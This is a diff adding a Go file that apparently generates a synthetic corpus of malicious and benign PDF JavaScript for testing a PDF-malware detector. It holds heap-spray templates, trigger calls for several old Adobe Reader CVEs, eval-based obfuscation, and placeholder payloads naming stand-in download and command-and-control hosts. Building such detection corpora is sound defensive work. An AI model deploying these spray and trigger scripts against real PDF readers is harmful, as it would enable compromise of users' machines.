@@ -1,0 +1,277 @@
+package corpus
+
+import (
+	"fmt"
+	"math/rand"
+	"strings"
+
+	"pdfshield/internal/reader"
+)
+
+// Script templates. Every malicious script is assembled from a spray
+// fragment (sized against the CVE's hijack target), a payload program, and
+// a trigger fragment for the vulnerable API, with optional source-level
+// obfuscation on top.
+
+// sprayBlockUnits is the UTF-16 size of one spray block (0.5 Mi units ->
+// 1 MiB of accounted heap).
+const sprayBlockUnits = 1 << 19
+
+// sprayJS builds the canonical doubling + block-array spray reaching
+// totalMB of accounted allocations, embedding the payload program into
+// every block.
+func sprayJS(rng *rand.Rand, payload string, totalMB int) string {
+	blocks := totalMB // one block ≈ 1 MB accounted
+	if blocks < 2 {
+		blocks = 2
+	}
+	nop := nopUnit(rng)
+	v := varNamer(rng)
+	pv, nv, bv, iv := v("p"), v("n"), v("b"), v("i")
+	return fmt.Sprintf(`
+var %s = "%s|";
+var %s = unescape("%s");
+while (%s.length < %d) %s += %s;
+var %s = [];
+for (var %s = 0; %s < %d; %s++) %s[%s] = %s + %s;
+`, pv, payload, nv, nop, nv, sprayBlockUnits, nv, nv, bv, iv, iv, blocks, iv, bv, iv, nv, pv)
+}
+
+// nopUnit picks a sled pattern. ASCII sleds keep bulk experiments cheap;
+// the classic %u0c0c appears in a fraction of samples for authenticity.
+func nopUnit(rng *rand.Rand) string {
+	if rng.Intn(10) == 0 {
+		return "%u0c0c%u0c0c"
+	}
+	pats := []string{"%0c%0c%0c%0c", "%0d%0d%0d%0d", "%41%41%41%41"}
+	return pats[rng.Intn(len(pats))]
+}
+
+// varNamer yields short randomized identifiers.
+func varNamer(rng *rand.Rand) func(prefix string) string {
+	return func(prefix string) string {
+		const letters = "abcdefghijklmnopqrstuvwxyz"
+		var sb strings.Builder
+		sb.WriteString(prefix)
+		for i := 0; i < 4; i++ {
+			sb.WriteByte(letters[rng.Intn(len(letters))])
+		}
+		return sb.String()
+	}
+}
+
+// payloadDropExec is the classic drop-and-run payload.
+func payloadDropExec(rng *rand.Rand) string {
+	name := fmt.Sprintf(`C:\\tmp\\upd%03d.exe`, rng.Intn(1000))
+	return "PAYLOAD:DROP=" + name + ";EXEC=" + name
+}
+
+// payloadDriveBy downloads a second stage then runs it.
+func payloadDriveBy(rng *rand.Rand) string {
+	host := fmt.Sprintf("cdn%02d.mal.example.net", rng.Intn(100))
+	path := fmt.Sprintf(`C:\\tmp\\dl%03d.exe`, rng.Intn(1000))
+	return "PAYLOAD:DOWNLOAD=http://" + host + "/p.exe," + path + ";EXEC=" + path
+}
+
+// payloadReverseShell connects back / listens.
+func payloadReverseShell(rng *rand.Rand) string {
+	if rng.Intn(2) == 0 {
+		return fmt.Sprintf("PAYLOAD:CONNECT=c2-%02d.example.net:443", rng.Intn(100))
+	}
+	return fmt.Sprintf("PAYLOAD:LISTEN=%d", 4000+rng.Intn(2000))
+}
+
+// payloadEggHunt searches memory for the embedded egg.
+func payloadEggHunt(rng *rand.Rand) string {
+	return fmt.Sprintf(`PAYLOAD:EGGHUNT=C:\\tmp\\egg%03d.exe`, rng.Intn(1000))
+}
+
+// payloadInject drops a DLL and injects it.
+func payloadInject(rng *rand.Rand) string {
+	dll := fmt.Sprintf(`C:\\tmp\\hk%03d.dll`, rng.Intn(1000))
+	return "PAYLOAD:DROP=" + dll + ";INJECT=" + dll
+}
+
+// triggerJS renders the vulnerable-API call for a CVE.
+func triggerJS(rng *rand.Rand, cve string) string {
+	switch cve {
+	case reader.CVE20082992:
+		return `util.printf("%45000f", 0.01);`
+	case reader.CVE20090927:
+		v := varNamer(rng)("s")
+		return fmt.Sprintf(`var %s = unescape("%%0a%%0a%%0a%%0a"); while (%s.length < 8192) %s += %s; Collab.getIcon(%s + "_N.bundle");`, v, v, v, v, v)
+	case reader.CVE20094324:
+		return `try { media.newPlayer(null); } catch(e) {}`
+	case reader.CVE20091493:
+		v := varNamer(rng)("d")
+		return fmt.Sprintf(`var %s = unescape("%%41%%41"); while (%s.length < 8192) %s += %s; spell.customDictionaryOpen(0, %s);`, v, v, v, v, v)
+	case reader.CVE20104091:
+		return `this.printSeps();`
+	case reader.CVE20091492:
+		return `this.syncAnnotScan(); var an = this.getAnnots({nPage: 0});`
+	default:
+		return ""
+	}
+}
+
+// sprayMBFor sizes a spray for a CVE's hijack target, with margin.
+func sprayMBFor(rng *rand.Rand, cve string, succeed bool) int {
+	target, ok := reader.TargetOf(cve)
+	if !ok {
+		target = 0x0c0c0c0c
+	}
+	needMB := int((target-reader.HeapBase())/(1<<20)) + 1
+	if succeed {
+		// A heavy tail of samples sprays far beyond the target (Figure 7's
+		// >1700 MB outlier class).
+		if rng.Intn(12) == 0 {
+			return needMB*3 + rng.Intn(needMB*9)
+		}
+		return needMB + 8 + rng.Intn(needMB/2+1) // margin + family spread
+	}
+	short := needMB / 4
+	if short < 8 {
+		short = 8
+	}
+	return needMB - short // insufficient: hijack misses -> crash
+}
+
+// benign scripts -------------------------------------------------------
+
+var benignFormScripts = []string{
+	`var f = this.getField("total");
+var subtotal = 125.50;
+var tax = subtotal * 0.08;
+f.value = util.printf("%.2f", subtotal + tax);`,
+
+	`var today = util.printd("yyyy/mm/dd", 0);
+var f = this.getField("date");
+f.value = today;
+this.calculateNow();`,
+
+	`function validate(v) {
+  if (v < 0 || v > 100) { app.alert("Value out of range"); return 0; }
+  return 1;
+}
+var ok = validate(42);`,
+
+	`var name = this.getField("name");
+var greeting = util.printf("Hello, %s", name.value);
+app.alert(greeting);`,
+
+	`var pages = this.numPages;
+var msg = "This report has " + pages + " page(s).";
+if (app.viewerVersion < 7) { app.alert("Please upgrade your reader."); }`,
+
+	`var parts = "2013-06-01".split("-");
+var year = parseInt(parts[0], 10);
+if (isNaN(year)) year = 2013;
+var label = year + "/" + parts[1];`,
+}
+
+// benignHeavyScripts are legitimate report/table builders that allocate a
+// few MB of strings — the source of Figure 7's benign memory (avg ~7 MB,
+// max ~21 MB), still far below any spray.
+var benignHeavyScripts = []string{
+	`var rows = [];
+for (var i = 0; i < 25000; i++) {
+  rows[i] = "Row " + i + ": amount=" + (i * 3) + " status=OK";
+}
+var report = rows.join("\n");
+var f = this.getField("report");
+f.value = report.substring(0, 200);`,
+
+	`var cells = [];
+for (var r = 0; r < 280; r++) {
+  var line = "";
+  for (var c = 0; c < 55; c++) {
+    line += "cell(" + r + "," + c + ");";
+  }
+  cells[r] = line;
+}
+var table = cells.join("|");`,
+
+	`var log = [];
+for (var i = 0; i < 60000; i++) {
+  log[i] = "entry " + i + " ts=" + (1000000 + i) + " level=INFO msg=render page";
+}
+var joined = log.join("\n");
+var head = joined.substring(0, 100);`,
+
+	`var words = "lorem ipsum dolor sit amet consectetur".split(" ");
+var body = [];
+for (var i = 0; i < 20000; i++) {
+  body[i] = words[i % words.length] + "-" + i;
+}
+var doc = body.join(" ");`,
+}
+
+func benignHeavyScript(rng *rand.Rand) string {
+	return benignHeavyScripts[rng.Intn(len(benignHeavyScripts))]
+}
+
+var benignNavScripts = []string{
+	`this.pageNum = 0; this.syncAnnotScan();`,
+	`var v = app.viewerVersion; if (v >= 8) { this.calculateNow(); }`,
+	`app.beep(0);`,
+	`var total = 0; for (var i = 0; i < this.numPages; i++) total += i;`,
+}
+
+// benignSOAPScript is the rare legitimate web-service user (the paper's
+// single in-JS network sample, still classified benign).
+const benignSOAPScript = `
+var service = "http://quotes.example-corp.com/soap";
+var resp = SOAP.request({cURL: service, oRequest: {symbol: "ADBE"}});
+`
+
+func benignFormScript(rng *rand.Rand) string {
+	return benignFormScripts[rng.Intn(len(benignFormScripts))]
+}
+
+func benignNavScript(rng *rand.Rand) string {
+	return benignNavScripts[rng.Intn(len(benignNavScripts))]
+}
+
+// obfuscateSource applies source-level obfuscation used in the wild:
+// eval-of-string wrapping and string splitting. The instrumented pipeline
+// is immune to these by construction.
+func obfuscateSource(rng *rand.Rand, src string) string {
+	switch rng.Intn(3) {
+	case 0:
+		// eval of escaped source.
+		return "eval(" + jsQuote(src) + ");"
+	case 1:
+		// split + join indirection.
+		v := varNamer(rng)("q")
+		half := len(src) / 2
+		return fmt.Sprintf("var %s = %s + %s;\neval(%s);", v, jsQuote(src[:half]), jsQuote(src[half:]), v)
+	default:
+		return src
+	}
+}
+
+func jsQuote(s string) string {
+	var sb strings.Builder
+	sb.WriteByte('"')
+	for _, r := range s {
+		switch r {
+		case '"', '\\':
+			sb.WriteByte('\\')
+			sb.WriteRune(r)
+		case '\n':
+			sb.WriteString("\\n")
+		case '\r':
+			sb.WriteString("\\r")
+		case '\t':
+			sb.WriteString("\\t")
+		default:
+			if r < 0x20 {
+				fmt.Fprintf(&sb, "\\u%04x", r)
+			} else {
+				sb.WriteRune(r)
+			}
+		}
+	}
+	sb.WriteByte('"')
+	return sb.String()
+}
